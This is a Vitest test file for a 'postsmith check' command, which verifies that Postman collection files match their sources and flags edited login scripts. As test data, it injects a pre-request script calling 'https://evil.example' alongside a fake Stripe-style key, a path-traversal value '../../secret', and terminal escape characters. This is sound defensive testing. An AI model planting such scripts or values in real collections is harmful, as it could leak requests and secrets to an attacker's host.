/** `postsmith check`: in a project and outside of one, untouched and edited, ours and other tools' logins. */

import { spawnSync } from 'node:child_process';
import { mkdtemp, readFile, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { findPostmanCli } from '../../src/engines/find-postman-cli.ts';
import { evaluated } from '../inject/collections.ts';
import { execute } from './execute.ts';
import { createSampleProject, type SampleProject } from './sample-project.ts';

const FILE = 'dist/collections/orders.postman_collection.json';

let project: SampleProject;
let built: string;
/** A folder that is no project. */
let elsewhere: string;
beforeAll(async () => {
  project = await createSampleProject();
  await execute(['build'], { folder: project.folder });
  built = await readFile(join(project.folder, FILE), 'utf8');
  elsewhere = await realpath(await mkdtemp(join(tmpdir(), 'postsmith-test-')));
});
afterAll(async () => {
  await project.remove();
  await rm(elsewhere, { recursive: true, force: true });
});

const check = (...files: string[]) => execute(['check', ...files], { folder: project.folder });
const checkElsewhere = (...files: string[]) => execute(['check', ...files], { folder: elsewhere });

/** Writes the built file, edited, under another name. */
const edited = async (edit: (text: string) => string, folder = project.folder): Promise<string> => {
  const text = edit(built);
  expect(text).not.toBe(built);
  await writeFile(join(folder, 'käse 1.json'), text);
  return 'käse 1.json';
};

/** As Postman exports it after an import. */
const exported = (text: string): string => {
  const withoutIds = JSON.parse(text, function (this: unknown, name, value: unknown) {
    if (name === 'id') return undefined;
    return name === 'exec' && Array.isArray(value) ? value.join('\r\n') : value;
  }) as { info: object };
  const info = { ...withoutIds.info, _postman_id: 'new', _exporter_id: '1' };
  return JSON.stringify({ ...withoutIds, info, event: [...Object(withoutIds).event] }, null, '\t');
};

describe('in a project', () => {
  test('what was built is what its sources say', async () => {
    expect(await check(FILE, 'dist/collections/open.postman_collection.json')).toEqual({
      code: 0,
      stderr: '',
      stdout: expect.stringMatching(
        new RegExp(
          [
            `^${FILE}: Orders`,
            '  login of Postsmith \\d+\\.\\d+\\.\\d+: untouched',
            '  renewal of Postsmith \\d+\\.\\d+\\.\\d+: untouched',
            '  logs in by client credentials at https://\\{\\{host\\}\\}/token, with assertion ES256',
            '  parts: client/assertion, host, jwt, key/private, sign/ES256',
            '  It is what collections/orders\\.ts says\\.',
            '',
            'dist/collections/open\\.postman_collection\\.json: Open',
            '  No login was found in its scripts\\.',
            '  It is what collections/open\\.ts says\\.',
            '$',
          ].join('\n'),
        ),
      ),
    });
  });

  test('a file that came back from Postman is as well, also through a symbolic link', async () => {
    await edited(exported);
    await symlink(join(project.folder, 'käse 1.json'), join(project.folder, 'link.json'));
    const { code, stdout } = await check('link.json');
    expect(stdout).toContain('  It is what collections/orders.ts says.\n');
    expect(code).toBe(0);
  });

  test('an edited one is told by place, without a value', async () => {
    const secret = 'sk_live_0123456789abcdefghij';
    const file = await edited((text) => {
      const collection = JSON.parse(exported(text)) as { variable?: unknown; item: { item: object[] }[] };
      const [read] = collection.item;
      read?.item.splice(1, 1);
      Object.assign(read?.item[0] ?? {}, {
        event: [{ listen: 'prerequest', script: { exec: ['pm.sendRequest("https://evil.example");'] } }],
      });
      return JSON.stringify({ ...collection, variable: [{ key: 'api', value: secret }] });
    });
    const { code, stdout, stderr } = await check(file);
    expect({ code, stderr }).toEqual({ code: 1, stderr: '' });
    expect(stdout).toContain(
      [
        '  It is not what collections/orders.ts says.',
        '  the collection: variable "api" was added',
        '  request "Read › List orders": post-response script was removed',
        '  request "Read › List orders": pre-request script was added',
        '  request "Read › Read an order": is missing',
        '  the collection: variable[0].value holds what looks like a Stripe key',
        '',
      ].join('\n'),
    );
    expect(stdout).not.toContain(secret);
    expect(stdout).not.toContain('evil');
  });

  test('a login whose program was edited is told', async () => {
    const file = await edited((text) => text.replace('pm.execution.skipRequest()', 'void 0'));
    const { code, stdout } = await check(file);
    expect(code).toBe(1);
    expect(stdout).toContain(': EDITED\n');
    expect(stdout).toMatch(
      / {2}the collection: (?:pre-request|post-response) script was edited, from line \d+ on\n/,
    );
  });

  test('all that is said is printed as JSON', async () => {
    const file = await edited((text) => text.replace('"GET"', '"PUT"'));
    const { code, stdout } = await check('--json', file, FILE);
    expect(code).toBe(1);
    const login = {
      of: 'postsmith',
      programs: [
        { place: [], program: 'login', state: 'untouched' },
        { place: [], program: 'renewal', state: 'untouched' },
      ],
      identities: [{ ways: [{ title: 'client credentials', scope: 'orders', algorithms: ['ES256'] }] }],
      besideAnother: false,
    };
    const place = ['Read', 'List orders'];
    const { files } = JSON.parse(stdout) as { files: unknown };
    expect(files).toMatchObject([
      {
        file,
        name: 'Orders',
        source: 'collections/orders.ts',
        isRight: false,
        login,
        differences: [{ place, part: 'request', kind: 'changed', what: 'method' }],
      },
      { file: FILE, isRight: true, differences: [], login },
    ]);
  });

  test('a broken one is told as a build tells it', async () => {
    const broken = await createSampleProject();
    try {
      await broken.write('collections/open.ts', 'export default 7;');
      await broken.write('a.json', built);
      const { code, stdout, stderr } = await execute(['check', 'a.json'], { folder: broken.folder });
      expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
      expect(stderr).toContain('collections/open.ts');
    } finally {
      await broken.remove();
    }
  });
});

describe('outside of a project', () => {
  const unknown = '  It belongs to no declaration that is known here.\n';

  test('an untouched login is told, and is enough', async () => {
    await writeFile(join(elsewhere, 'a.json'), built);
    const { code, stdout } = await checkElsewhere('a.json');
    expect(stdout).toMatch(/\n {2}login of Postsmith [\d.]+: untouched\n/);
    expect(stdout).toContain(unknown);
    expect(code).toBe(0);
  });

  test.each([
    ['an edited program', (text: string) => text.replace('skipRequest', 'skipNothing'), ': EDITED\n'],
    [
      'a program whose end is gone',
      (text: string) => text.replace(/\}\)\(\[\{\\"variables\\"/, '})();([{\\"variables\\"'),
      ': EDITED\n',
    ],
    [
      'a program of another version',
      (text: string) =>
        text
          .replace(/(postsmith login; postsmith )\d+\.\d+\.\d+/, '$10.0.7')
          .replace('skipRequest', 'skipNothing'),
      '  login of Postsmith 0.0.7: made by a version whose text this one can not make',
    ],
    [
      'a configuration that leads elsewhere',
      (text: string) => text.replace('\\"method\\":\\"assertion\\"', '\\"method\\":\\"../../secret\\"'),
      '  login of Postsmith',
    ],
    [
      'a client authentication that there is not',
      (text: string) => text.replace('\\"method\\":\\"assertion\\"', '\\"method\\":\\"telepathy\\"'),
      ': EDITED\n',
    ],
  ])('%s is not', async (_what, edit, message) => {
    const { code, stdout } = await checkElsewhere(await edited(edit, elsewhere));
    expect(stdout).toContain(message);
    expect(stdout).toContain(unknown);
    expect(code).toBe(1);
  });

  test("another tool's login is told by where it asks, and no login too", async () => {
    await writeFile(join(elsewhere, 'other.json'), JSON.stringify(evaluated));
    const other = await checkElsewhere('other.json');
    expect(other.stdout).toMatch(/\n {2}The login of another tool is inside, which asks \S*token\S*\.\n/);
    expect(other.code).toBe(1);
    const open = JSON.stringify({ info: { name: 'Open\u001B[2J\u202E' }, item: [] });
    await writeFile(join(elsewhere, 'open.json'), open);
    const none = await checkElsewhere('open.json');
    expect(none).toMatchObject({
      code: 1,
      stdout: `open.json: Open [2J\n  No login was found in its scripts.\n${unknown}`,
    });
  });
});

describe('an input that is wrong ends with 2', () => {
  test('all files are told at once, and nothing is said of the others', async () => {
    await writeFile(join(elsewhere, 'a.json'), built);
    await writeFile(join(elsewhere, 'empty.json'), '');
    await writeFile(join(elsewhere, 'list.json'), '[]');
    const { code, stdout, stderr } = await checkElsewhere(
      'a.json',
      'empty.json',
      'list.json',
      'none.json',
      '.',
    );
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
    expect(stderr).toContain('  empty.json: it is empty; export the collection again.\n');
    expect(stderr).toContain('  list.json: it is JSON, but no Postman collection;');
    expect(stderr).toContain('  none.json could not be read: there is no such file or folder.\n');
    expect(stderr).toContain('  . is a folder, and none that `postman collection migrate` has made');
  });

  test('no file', async () => {
    const { code, stderr } = await checkElsewhere();
    expect(code).toBe(2);
    expect(stderr).toContain('Name the file to check: postsmith check <file.json>.');
  });
});

const cli = process.env['POSTMAN_CLI'];
const cliIsThere = cli !== undefined && (await findPostmanCli().then(Boolean, () => false));

test.skipIf(!cliIsThere)(
  'a folder that the official Postman CLI has migrated is what the sources say',
  async () => {
    const target = join(elsewhere, 'migrated');
    const { status } = spawnSync(cli ?? '', [
      'collection',
      'migrate',
      join(project.folder, FILE),
      '-o',
      target,
    ]);
    expect(status).toBe(0);
    const { code, stdout } = await check(target);
    expect(stdout).toContain('  It is what collections/orders.ts says.\n');
    expect(code).toBe(0);
    const request = join(target, 'Read', 'List orders.request.yaml');
    await writeFile(request, (await readFile(request, 'utf8')).replace('method: GET', 'method: PUT'));
    const put = await check(target);
    expect(put.stdout).toContain('  request "Read › List orders": method was edited\n');
    expect(put.code).toBe(1);
    await writeFile(request, 'a: [');
    const broken = await check(target);
    expect(broken.code).toBe(2);
    expect(broken.stderr).toContain('is no YAML');
  },
);
